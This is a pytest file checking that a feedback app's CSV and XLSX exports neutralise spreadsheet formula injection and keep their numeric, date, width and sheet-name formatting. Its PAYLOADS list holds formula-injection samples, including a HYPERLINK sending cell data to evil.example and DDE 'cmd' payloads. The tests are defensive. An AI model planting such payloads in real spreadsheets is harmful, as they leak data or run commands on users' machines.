"""Text that could run as a spreadsheet formula is neutralised in CSV and XLSX (OWASP):
a leading = + - @ tab CR or LF gets an apostrophe, and XLSX text cells are strings. And the
writers' other promises: percentages and dates as numbers, frozen headers, set widths, valid
sheet names."""

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from feedback_app.services.reports.exports import Percent, Sheet, csv_line, csv_lines, fit_widths, write_xlsx
from feedback_app.services.reports.spreadsheet_safety import neutralise, neutralise_text

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_each_risky_first_character_gets_an_apostrophe(start):
    assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise_text(start + "x") == "'" + start + "x"


def test_spaces_in_front_do_not_hide_a_formula():
    assert neutralise("   =1+1") == "'   =1+1"


@pytest.mark.parametrize(
    "value",
    ["Police", "", "2+3", "a=b", "someone@example.org", "O'Brien", "50%", "12", " spaced", "fewer than 5", "Łódź"],
)
def test_harmless_text_is_left_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [0, 7, -2, 0.38, None, True])
def test_numbers_and_none_are_not_text(value):
    assert neutralise(value) is value


def test_neutralise_text_is_always_text():
    assert neutralise_text(None) == ""
    assert neutralise_text(12) == "12"


def test_csv_lines_neutralise_every_text_value():
    text = "".join(csv_lines(["Theme", "Number"], [[payload, 3] for payload in PAYLOADS]))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows[0] == ["Theme", "Number"]
    assert [row[0] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert all(row[1] == "3" for row in rows[1:])


def test_csv_percent_is_a_whole_number_and_a_date_is_iso():
    assert csv_line(["Yes", 5, Percent(50), "", None]) == "Yes,5,50,,\r\n"
    assert csv_line([Percent(0), Percent(100), date(2026, 11, 28)]) == "0,100,2026-11-28\r\n"


def test_xlsx_text_cells_are_strings_with_an_apostrophe():
    file, rows = write_xlsx(
        [Sheet("=Sheet", ["=Theme", "Number", "Per cent"], [[payload, 4, Percent(25)] for payload in PAYLOADS])]
    )
    assert rows == len(PAYLOADS)
    with file:
        workbook = load_workbook(file)
    sheet = workbook.worksheets[0]
    assert sheet.title == "=Sheet"  # a sheet name is never evaluated
    header = [cell for cell in sheet[1]]
    assert header[0].value == "'=Theme" and header[0].data_type == "s"
    for row, payload in zip(sheet.iter_rows(min_row=2), PAYLOADS):
        text, number, percent = row
        assert text.data_type == "s", payload
        assert text.value.startswith("'") and text.value[1:] == payload.replace("\r", "\n")  # XML keeps LF
        assert number.data_type == "n" and number.value == 4
        assert percent.data_type == "n" and percent.value == 0.25 and percent.number_format == "0%"


def test_xlsx_never_holds_a_formula():
    file, _rows = write_xlsx([Sheet("S", ["a"], [["=1+1"], ["=cmd"]])])
    with file:
        raw = file.read()
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert 't="inlineStr"' in sheet_xml


def test_xlsx_drops_characters_xml_cannot_hold():
    file, _rows = write_xlsx([Sheet("S", ["a"], [["bell\x07 and nul\x00"]])])
    with file:
        sheet = load_workbook(file).worksheets[0]
    assert sheet["A2"].value == "bell and nul"


def test_xlsx_sheets_keep_their_header_in_view_with_set_widths():
    file, rows = write_xlsx(
        [
            Sheet("Figures", ["Answer", "Number", "Per cent", "Made on"],
                  [["Yes", 12, Percent(53), date(2026, 11, 28)], ["No", "fewer than 5", None, None]]),
            Sheet("Quotes", ["Quote"], [["A long quote\nover two lines"]], widths=[80], wrap={0}),
        ]
    )
    assert rows == 3
    with file:
        workbook = load_workbook(file)
    figures, quotes = workbook.worksheets
    for sheet in (figures, quotes):
        assert sheet.freeze_panes == "A2"
        assert sheet.print_title_rows == "$1:$1"
        assert all(cell.font.b for cell in sheet[1])
    assert [figures.column_dimensions[c].width for c in "ABCD"] == [8, 8, 10, 9]  # from the header
    yes, no = figures.iter_rows(min_row=2)
    assert yes[1].value == 12 and yes[1].data_type == "n"
    assert yes[2].value == 0.53 and yes[2].number_format == "0%"
    assert yes[3].is_date and yes[3].value.date() == date(2026, 11, 28) and yes[3].number_format == "d mmm yyyy"
    assert no[1].value == "fewer than 5" and no[1].data_type == "s" and no[2].value is None
    assert quotes.column_dimensions["A"].width == 80 and quotes["A2"].alignment.wrap_text


def test_fit_widths_fits_the_longest_line_within_limits():
    assert fit_widths(["Service", "Number"], [["Police", 12], ["x" * 100, "fewer than 5"]], maximum=50) == [50, 14]
    assert fit_widths(["A"], [["two\nlines"], [Percent(100)], [date(2026, 1, 1)]]) == [13]  # "01 Jan 2026"


@pytest.mark.parametrize(
    "titles, names",
    [
        (["A name far longer than thirty-one characters"], ["A name far longer than thirty-o"]),
        (["What: helped? [1/2]*"], ["What  helped   1 2"]),
        (["'Quoted'"], ["Quoted"]),
        (["History"], ["History 2"]),
        (["Quotes", "quotes", "Quotes"], ["Quotes", "quotes 2", "Quotes 3"]),
        (["People seeking support and more words", "People seeking support and more"],
         ["People seeking support and more", "People seeking support and mo 2"]),
        (["", "   "], ["Sheet", "Sheet 2"]),
    ],
)
def test_sheet_names_are_valid_and_unique(titles, names):
    file, _rows = write_xlsx([Sheet(title, ["a"], []) for title in titles])
    with file:
        assert load_workbook(file).sheetnames == names
